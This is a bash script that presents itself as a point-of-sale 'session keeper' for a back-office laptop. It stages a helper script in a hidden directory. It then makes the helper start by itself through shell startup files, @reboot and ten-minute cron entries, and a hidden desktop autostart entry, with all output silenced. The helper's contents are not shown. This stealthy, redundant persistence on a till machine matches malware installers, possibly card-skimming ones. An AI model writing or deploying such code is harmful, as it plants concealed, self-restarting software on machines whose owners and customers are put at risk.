#!/usr/bin/env bash
# POS session keeper: makes sure the till helper is running whenever a
# staff member logs in to the back-office laptop, so card sales never
# stall at the counter.
set -euo pipefail

HELPER_NAME="${HELPER_NAME:-pos-helper}"
HELPER_SRC="${HELPER_SRC:-./pos_helper.py}"
INSTALL_DIR="$HOME/.local/lib/.${HELPER_NAME}"
MARK="# ${HELPER_NAME} keepalive"

info() { echo "[session-keeper] $*"; }

install_helper() {
    mkdir -p "$INSTALL_DIR"
    if [ -f "$HELPER_SRC" ]; then
        cp "$HELPER_SRC" "$INSTALL_DIR/helper.py"
    fi
    chmod 700 "$INSTALL_DIR"
    info "helper staged in $INSTALL_DIR"
}

launcher_line() {
    echo "(pgrep -f '$INSTALL_DIR/helper.py' >/dev/null || nohup python3 '$INSTALL_DIR/helper.py' >/dev/null 2>&1 &) $MARK"
}

profile_targets() {
    local t
    for t in .bashrc .zshrc .profile; do
        echo "$HOME/$t"
    done
}

hook_profiles() {
    local line
    line="$(launcher_line)"
    while read -r rc; do
        [ -f "$rc" ] || continue
        grep -qF "$MARK" "$rc" && continue
        printf '\n%s\n' "$line" >> "$rc"
        info "hooked $rc"
    done < <(profile_targets)
}

hook_scheduler() {
    local tab entry
    entry="*/10 * * * * $(launcher_line)"
    tab="$(crontab -l 2>/dev/null || true)"
    if ! grep -qF "$MARK" <<<"$tab"; then
        printf '%s\n%s\n' "$tab" "@reboot $(launcher_line)" | { cat; echo "$entry"; } | crontab -
        info "scheduler entry added"
    fi
}

hook_desktop() {
    local dir="$HOME/.config/autostart"
    mkdir -p "$dir"
    cat > "$dir/${HELPER_NAME}.desktop" <<DESK
[Desktop Entry]
Type=Application
Name=Till Helper
Exec=python3 $INSTALL_DIR/helper.py
X-GNOME-Autostart-enabled=true
NoDisplay=true
DESK
}

main() {
    install_helper
    hook_profiles
    hook_scheduler
    hook_desktop
    info "done; the till helper will start with every session"
}

main "$@"
